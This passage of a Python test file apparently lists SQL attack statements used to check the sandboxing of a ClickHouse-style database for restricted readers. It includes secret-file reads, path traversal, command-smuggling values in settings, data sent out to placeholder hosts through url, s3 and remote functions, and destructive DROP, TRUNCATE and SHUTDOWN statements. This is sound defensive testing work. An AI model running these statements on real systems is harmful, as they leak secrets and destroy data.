        "deltaLake('<url>/b', 'x', 'y')",
        "hudi('<url>/b')",
        "paimon('<url>/b')",
        "ytsaurus('<url>', '//x', 'y', 'a String')",
        "arrowstream('<url>')",
        "bigquery('x', 'y', 'z')",
        "prometheusQuery('t', 'up', now())",
        "timeSeriesData('t')",
        "merge('system', 'disks')",
        "merge(REGEXP('s.*m'), 'disks|tables')",
        "loop(system.disks) LIMIT 3",
    )
]
OTHER_HOSTS += [
    Attack("SELECT aiGenerate('x', 'y'), aiEmbed('x', 'y')"),
    Attack("SELECT hasColumnInTable('<name>:1', 'u', 'p', 'system', 'disks', 'path')"),
    Attack("SELECT * FROM format(AvroConfluent, 'x String', '\\0\\0\\0\\0\\1a')"),
    Attack(
        "SELECT * FROM format(AvroConfluent, 'x String', '\\0\\0\\0\\0\\1a')",
        {"format_avro_schema_registry_url": "<url>"},
    ),
    Attack(
        "SELECT * FROM format(AvroConfluent, 'x String', '\\0\\0\\0\\0\\1a') "
        "SETTINGS format_avro_schema_registry_url = 'http://<name>'"
    ),
    Attack(
        "SELECT 1 AS x FORMAT AvroConfluent",
        {"format_avro_schema_registry_url": "<url>", "output_format_avro_confluent_subject": "x"},
    ),
    Attack("INSERT INTO FUNCTION url('<url>/', 'CSV', 'a UInt8') VALUES (1)"),
    Attack("INSERT INTO FUNCTION s3('<url>/b/k', 'CSV', 'a UInt8') SELECT 1"),
    Attack("INSERT INTO FUNCTION remote('127.0.0.1:<port>', 'd', 't') SELECT 1"),
    Attack("SYSTEM DROP DNS CACHE"),
    Attack("SYSTEM SYNC REPLICA <t>"),
    Attack("SYSTEM DROP REPLICA 'x' FROM ZKPATH '/x'"),
    Attack("SELECT * FROM system.zookeeper WHERE path = '/'"),
    Attack("SELECT generateSerialID('x')"),
]

SETTINGS: Final = [
    *_each(
        "SELECT a FROM <t>",
        {"select": "file('<secret>')"},
        {"filter": "file('<secret>') != ''"},
        {"order": "file('<secret>')"},
        {"additional_result_filter": "file('<secret>') != ''"},
        {"additional_table_filters": "{'<t>': 'file(\\'<secret>\\') = 1'}"},
        {"dialect": "prql", "allow_experimental_prql_dialect": "1"},
        {"dialect": "kusto", "allow_experimental_kusto_dialect": "1"},
        {"dialect": "polyglot", "polyglot_dialect": "mysql"},
        {"implicit_table_at_top_level": "system.disks"},
        {"implicit_select": "1"},
        {
            "cluster_for_parallel_replicas": "x",
            "allow_experimental_parallel_reading_from_replicas": "2",
        },
        {"url_base": "<url>"},
        {"s3_base": "<url>"},
        {"into_outfile_create_parent_directories": "1"},
        {"filesystem_cache_name": "x"},
        {"http_response_headers": "{'x': 'y\\r\\nz'}"},
        {"output_format": "Protobuf"},
        {"readonly": "0"},
        {"allow_ddl": "1"},
        {"max_execution_time": "0"},
        {"log_queries": "1", "send_logs_level": "trace"},
        {"log_comment": "x"},
        {"workload": "x"},
        {"compatibility": "20.1"},
        {"profile": "default"},
        {"role": "x"},
        {"trace_profile_events": "1"},
        {"local_filesystem_read_method": "io_uring"},
        {"temporary_files_codec": "NONE", "max_bytes_before_external_sort": "1"},
        {"session_timezone": "python(sys)"},
        {"database": "python(sys)"},
        {"query_id": "python(sys)"},
        {"database": "system"},
        {"database": "../../outside"},
        {"database": "x`; SELECT file('<secret>'); --"},
        {"session_timezone": "UTC'; SELECT file('<secret>'); --"},
        {"max_threads = 1, select": "file('<secret>')"},
        {"param_x": "'; SELECT file('<secret>')"},
    ),
    *(
        Attack(f"SELECT a FROM <t> SETTINGS {setting}")
        for setting in (
            "select = 'file(\\'<secret>\\')'",
            "`filter` = 'file(\\'<secret>\\') != \\'\\''",
            'max_threads = 1, "order" = \'file("<secret>")\'',
            "additional_result_filter = 'file(\\'<secret>\\') != \\'\\''",
            "additional_table_filters = {'portquorum.kept': 'file(\\'<secret>\\') = \\'\\''}",
            "dialect = 'prql'",
            "readonly = 0",
            "readonly = 0, max_execution_time = 0",
            "output_format_schema = '<folder>/s'",
            "limit = 1, offset = 0, implicit_select = 1",
            "url_base = '<url>', s3_base = '<url>'",
        )
    ),
    Attack("SET readonly = 0"),
    Attack("SET select = 'file(\\'<secret>\\')'", {"session_id": "attacks"}),
    Attack("SELECT 1", {"session_id": "attacks"}),
    Attack("SET dialect = 'prql'", {"session_id": "attacks"}),
    Attack("SET output_format_schema = '<folder>/s'", {"session_id": "attacks"}),
    Attack("SET PROFILE default", {"session_id": "attacks"}),
    Attack("SET ROLE ALL", {"session_id": "attacks"}),
    Attack("SET TRANSACTION SNAPSHOT 3", {"session_id": "attacks"}),
    Attack("SET param_f = 'file'", {"session_id": "attacks"}),
    Attack("SELECT arrayMap({f:Identifier}, ['<secret>'])", {"session_id": "attacks"}),
    Attack("USE system", {"session_id": "attacks"}),
    Attack("SELECT * FROM disks", {"session_id": "attacks"}),
    Attack("USE default", {"session_id": "attacks"}),
    Attack("SELECT * FROM `<secret>`", {"session_id": "attacks"}),
]

WRITES: Final = [
    Attack(sql)
    for sql in (
        "INSERT INTO <t> VALUES (9, 'x')",
        "INSERT INTO <t> SELECT 9, 'x'",
        "INSERT INTO <t> (a) FORMAT TSV\n9",
        "WITH 1 AS x INSERT INTO <t> SELECT x, ''",
        "ALTER TABLE <t> DELETE WHERE 1",
        "ALTER TABLE <t> UPDATE b = 'x' WHERE 1",
        "ALTER TABLE <t> ADD COLUMN c Int8",
        "ALTER TABLE <t> DETACH PARTITION tuple()",
        "ALTER TABLE <t> FREEZE",
        "DELETE FROM <t> WHERE 1",
        "UPDATE <t> SET b = 'x' WHERE 1",
        "TRUNCATE TABLE <t>",
        "TRUNCATE DATABASE portquorum",
        "TRUNCATE ALL TABLES FROM portquorum",
        "DROP TABLE <t> SYNC",
        "DROP DATABASE portquorum",
        "DETACH TABLE <t>",
        "DETACH TABLE <t> PERMANENTLY",
        "DETACH DATABASE portquorum",
        "RENAME TABLE <t> TO <t>3",
        "EXCHANGE TABLES <t> AND <t>2",
        "OPTIMIZE TABLE <t> FINAL",
        "CREATE OR REPLACE TABLE <t> (a UInt8) ENGINE = Memory",
        "REPLACE TABLE <t> (a UInt8) ENGINE = Memory",
        "CREATE TEMPORARY TABLE kept (a UInt8)",
        "EXPLAIN ANALYZE INSERT INTO <t> SELECT 9, 'x'",
        "KILL QUERY WHERE 1 SYNC",
        "KILL MUTATION WHERE 1",
        "SYSTEM DROP MARK CACHE",
        "SYSTEM STOP MERGES",
        "SYSTEM START MERGES",
        "UNDROP TABLE <t>x",
        "CHECK TABLE <t>",
        "SELECT 1; DROP TABLE <t>",
        "SELECT 1 FORMAT TSV; DROP TABLE <t>",
        "SELECT * FROM view(INSERT INTO <t> VALUES (9, 'x'))",
        "BEGIN TRANSACTION",
        "COMMIT",
    )
]
"""What a reader must not do; of an owner only those that leave the table as it is are sent."""

SYSTEM_TABLES: Final = [
    # The views that readers have in place of tables of system, and the conditions of KILL and SHOW.
    Attack("SELECT file(path) FROM system.disks"),
    Attack("SELECT file(concat(path, '../../outside/secret.csv')) FROM system.disks"),
    Attack("SELECT * FROM system_of_readers.disks WHERE file('<secret>') != ''"),
    Attack("SELECT * FROM disks WHERE file('<secret>') != ''", {"database": "system"}),
    Attack("DESCRIBE TABLE (SELECT file('<secret>') FROM system.tables)"),
    Attack("SHOW TABLES WHERE file('<secret>') != ''"),
    Attack("SHOW TABLES FROM system WHERE name = file('<secret>')"),
    Attack("SHOW COLUMNS FROM tables FROM system WHERE field = file('<secret>')"),
    Attack("SHOW PROCESSLIST INTO OUTFILE '<folder>/processes'"),
    Attack("KILL QUERY WHERE file('<secret>') != ''"),
    Attack("KILL QUERY WHERE query_id = file('<secret>') TEST"),
    Attack("KILL QUERY WHERE throwIf(1, file('<secret>')) SYNC"),
    Attack("KILL QUERY WHERE 1 IN (SELECT 1 FROM url('<url>', 'CSV', 'a UInt8'))"),
    Attack("KILL QUERY WHERE (SELECT * FROM file('<secret>', 'LineAsString')) != '' TEST"),
    Attack(
        "KILL QUERY WHERE query = {p:String} AND file({p:String}) = ''", {"param_p": "<secret>"}
    ),
    Attack("KILL QUERY WHERE {f:Identifier} != ''", {"param_f": "file"}),
    Attack("KILL QUERY WHERE 1 TEST INTO OUTFILE '<folder>/killed'"),
    Attack("KILL QUERY WHERE 1 TEST FORMAT TSV SETTINGS format_schema = '<secret>'"),
    Attack("KILL QUERY WHERE 1 TEST", {"default_format": "Template"}),
    Attack("KILL TRANSACTION WHERE file('<secret>') != ''"),
    Attack("KILL MUTATION WHERE file('<secret>') != '' TEST"),
]


def statements(*, reader: bool) -> Sequence[Attack]:
    """All attacks by SQL that a reader or the owner tries.

    The owner may change tables: what would take away the one that is watched is the reader's.
    """
    everybodys = [
        *READ_FILES,
        *STRUCTURES,
        *PROGRAMS,
        *WRITE_FILES,
        *ENGINES,
        *DICTIONARIES,
        *OTHER_HOSTS,
        *SETTINGS,
        *SYSTEM_TABLES,
    ]
    return [*everybodys, *WRITES] if reader else everybodys


ENDS_THE_ENGINE: Final = ("SYSTEM SHUTDOWN", "SYSTEM KILL", "DROP DATABASE default")
"""With these the owner takes the engine from everybody, where nothing looks at SQL."""
